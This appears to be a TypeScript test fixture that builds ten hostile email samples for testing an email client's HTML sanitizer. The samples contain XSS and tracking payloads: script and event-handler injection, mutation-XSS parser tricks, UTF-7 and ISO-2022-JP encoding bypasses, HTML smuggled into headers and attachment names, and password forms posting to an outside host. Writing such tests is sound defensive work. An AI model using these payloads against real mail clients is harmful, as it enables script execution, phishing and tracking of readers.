// Ten mails that attack whoever reads them: by what they run, load, submit, hide, and by where they put it. Ours, all of them.
import type { Sample } from '../messages/sample.ts';

const FAR = 'http://far.test/';
/** What every attack calls, and loads. */
const RUN = (what: string): string => `<img src=${FAR}${what}.png onerror=pwned()><script>pwned()</script>`;

/** The mails, each with its name. Every one holds the word `hostile`, so that a search finds it. */
export function hostileMails(): readonly Sample[] {
  return Object.entries(MAILS).map(([name, mail], index) => ({
    name,
    folder: 'INBOX',
    bytes: Buffer.from(mail.replace(/\n/g, '\r\n'), 'latin1'),
    subject: null,
    phrase: 'hostile',
    attachments: [],
    date: null,
    internalDate: Date.UTC(2026, 0, 1 + index),
    flags: [],
  }));
}

const utf8 = (text: string): string => Buffer.from(text).toString('latin1');
const word = (text: string): string => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;

function mail(headers: string, body: string): string {
  const has = (name: string): boolean => new RegExp(`^${name}:`, 'im').test(headers);
  return [
    has('from') ? '' : 'From: Mallory <mallory@example.org>\n',
    has('to') ? '' : 'To: someone@example.org\n',
    has('subject') ? '' : 'Subject: hostile\n',
    'Date: Thu, 01 Jan 2026 10:00:00 +0000\nMIME-Version: 1.0\n',
    `${headers.trim()}\n\n${body}`,
  ].join('');
}

const html = (body: string, headers = ''): string =>
  mail(`Content-Type: text/html; charset=utf-8\n${headers}`, utf8(body));

function multipart(kind: string, parts: readonly string[]): string {
  const body = parts.map((part) => `--part\n${part}\n`).join('');
  return mail(`Content-Type: multipart/${kind}; boundary=part`, `${body}--part--\n`);
}

const MAILS: Readonly<Record<string, string>> = {
  'scripts, handlers, frames': html(
    `<body onload=pwned()><p>hostile ${RUN('a')}<iframe src=${FAR}frame></iframe><iframe srcdoc="<script>pwned()</script>"></iframe>` +
      `<object data=${FAR}object></object><embed src=${FAR}embed><a href="java&#10;script:pwned()" autofocus onfocus=pwned()>x</a>` +
      `<details open ontoggle=pwned()>x</details><marquee onstart=pwned()>x</marquee>`,
  ),
  'trackers in every place': html(
    `<html><head><link rel=stylesheet href=${FAR}css><link rel=preconnect href=${FAR}><link rel=dns-prefetch href=http://dns.names.test/>` +
      `<link rel=prefetch href=${FAR}prefetch><style>@import "${FAR}import";@font-face{font-family:f;src:url(${FAR}font)}` +
      `body{background:url(${FAR}body);font-family:f}</style></head><body background=${FAR}background><p>hostile` +
      `<img src="${FAR}pixel.gif" width=1 height=1><img srcset="${FAR}set 1x"><picture><source srcset=${FAR}source><img></picture>` +
      `<video poster=${FAR}poster src=${FAR}video autoplay></video><audio src=${FAR}audio autoplay></audio>` +
      `<p style="background:image-set('${FAR}image-set' 1x)"><table background=${FAR}table><td background=${FAR}td>x</table>`,
  ),
  'a form, a refresh, a base': html(
    `<meta http-equiv=refresh content="0;url=${FAR}refresh"><base href=${FAR} target=_top><p>hostile` +
      `<form action=${FAR}form id=f><input name=password type=password autofocus><input type=image src=${FAR}image></form>` +
      `<button form=f formaction=${FAR}action>Sign in</button><img src=relative.png><a href=relative.html>x</a>`,
  ),
  'what parsers read in two ways': html(
    `<p>hostile<svg><style><img src="</style><img src=${FAR}svg onerror=pwned()>"></svg>` +
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${FAR}math onerror=pwned()&gt;">` +
      `</table></math><noscript><p title="</noscript><img src=${FAR}noscript onerror=pwned()>"></noscript>` +
      `<form><math><mtext></form><form><mglyph><style></math><img src=${FAR}form onerror=pwned()>` +
      `<svg><image href=${FAR}image /><use href=${FAR}use.svg#x /></svg><xmp><p title="</xmp><img src=${FAR}xmp onerror=pwned()>">`,
  ),
  'HTML in its headers': mail(
    [
      'Content-Type: text/plain; charset=utf-8',
      `From: "<img src=${FAR}from onerror=pwned()>" <mallory@example.org>`,
      `To: ${word(`</dd><script>pwned()</script>${RUN('to')}`)} <"><script>pwned()</script>"@example.org>`,
      `Cc: ${word('\u202egro.elpmaxe@knab\u202c')} <cc@example.org>, ${word('ban\u200bk@example.org')} <x@example.net>`,
      `Subject: hostile ${word(`</title></h1>${RUN('subject')}<mark>`)}`,
      `Message-ID: <"><img src=${FAR}id onerror=pwned()>@example.org>`,
      `References: <"><img/src=${FAR}ref>@example.org>`,
    ].join('\n'),
    'hostile\n',
  ),
  'HTML in its file names': multipart('mixed', [
    'Content-Type: text/plain\n\nhostile',
    `Content-Type: text/html; name="x"\nContent-Disposition: attachment; filename*=utf-8''${encodeURIComponent(`"><img src=${FAR}name onerror=pwned()>.html`)}\n\n${RUN('file')}`,
    `Content-Type: image/svg+xml\nContent-Disposition: inline; filename*=utf-8''invoice%E2%80%AEgnp.svg\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><image href="${FAR}inline"/></svg>`,
    `Content-Type: text/html"><script>pwned()</script>\nContent-Disposition: attachment; filename="a\\"\n\n.html"\n\n${RUN('type')}`,
  ]),
  'UTF-7': mail(
    'Content-Type: text/html; charset=utf-7',
    `<p>hostile +ADw-script+AD4-pwned()+ADw-/script+AD4APA-img src=+ACI-${FAR}utf7+ACI- onerror=pwned()+AD4-`,
  ),
  'escapes of ISO-2022-JP, octets that are no UTF-8, NUL': mail(
    'Content-Type: text/html; charset=iso-2022-jp',
    `<p>hostile <p title="\x1b$B"><img src=${FAR}jis onerror=pwned()>\x1b(B"> \xc0\xbcscript\xc0\xbepwned()\xc0\xbc/script\xc0\xbe` +
      `<scr\0ipt>pwned()</scr\0ipt><img src=${FAR}nul on\0error=pwned()> \xff\xfe<\0s\0c\0r\0i\0p\0t\0>\0 <img \x0bsrc=${FAR}vt onerror=pwned()>`,
  ),
  'plain text that looks like a page': mail(
    'Content-Type: text/plain; charset=utf-8',
    utf8(
      `hostile </pre></mark>${RUN('text')} <mark>hostile</mark> javascript:pwned() <a href="javascript:pwned()">x</a> ` +
        `https://example.org/"onmouseover="pwned() http://far.test/'><img/src=${FAR}link> \u202egpj.exe`,
    ),
  ),
  'a mail in a mail, and pictures that are none': multipart('related', [
    `Content-Type: text/html; charset=utf-8\n\n<p>hostile <img src=cid:drawing@x><img src="cid:page@x"><img src=cid:far@x>` +
      `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'/>"><iframe src=cid:page@x></iframe>`,
    `Content-Type: image/png\nContent-ID: <drawing@x>\n\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"/>`,
    `Content-Type: text/html\nContent-ID: <page@x>\n\n${RUN('page')}`,
    `Content-Type: message/external-body; access-type=URL; URL="${FAR}external"\nContent-ID: <far@x>\n\nContent-Type: image/png\n\n`,
    `Content-Type: message/rfc822\n\nFrom: x@example.org\nSubject: ${RUN('inner')}\nContent-Type: text/html\n\n${RUN('nested')}`,
  ]),
};
